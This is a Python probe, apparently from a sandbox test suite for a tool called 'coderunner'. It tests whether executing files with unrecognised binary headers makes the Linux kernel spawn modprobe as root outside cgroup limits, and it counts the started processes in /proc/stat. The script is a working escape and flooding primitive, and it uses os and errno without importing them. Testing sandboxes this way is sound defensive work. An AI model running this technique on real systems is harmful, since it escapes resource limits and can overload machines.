"""Have the kernel look for a module.

Technique: executing a file that no loader knows makes the kernel start modprobe, as root and outside of every limit, and wait
    for it (request_module("binfmt-…"), until Linux 6.14; one of the ways out of cgroups of "Houdini's Escape", 2019). One
    system call here is a process there, thousands of times a second.
Success: the machine starts a process for every such call.
Stopped by: kernel
Not promised: Before Linux 6.14 only a machine without modprobe holds this (`sysctl kernel.modprobe=`); `coderunner doctor` tells.
"""
import struct

CALLS, ROUNDS = 100, 4


def processes_started():
    with open("/proc/stat") as file:
        return next(int(line.split()[1]) for line in file if line.startswith("processes "))


def attack():
    started = []
    for number in range(ROUNDS):
        before = processes_started()
        for call in range(CALLS):
            path = f"/work/{number}-{call}"
            with open(path, "wb") as file:
                # Four bytes that are no text; the last two are in the module's name.
                file.write(struct.pack("<HH", 0x01FE, 0x8000 + number * CALLS + call) + bytes(124))
            os.chmod(path, 0o755)
            try:
                os.execv(path, [path])
            except OSError as error:
                if error.errno != errno.ENOEXEC:
                    raise
        started.append(processes_started() - before)
    # Others start processes too, but not as many in every round.
    if min(started) >= CALLS:
        return f"{CALLS} calls, {min(started)} processes at least were started on the machine, in each of {ROUNDS} rounds"


def twin():
    """A script without a first line that says whose it is is run by the shell."""
    import subprocess

    with open("/work/script", "w") as file:
        file.write("echo hello\n")
    os.chmod("/work/script", 0o755)
    assert subprocess.run("/work/script", shell=True, capture_output=True, check=True).stdout == b"hello\n"
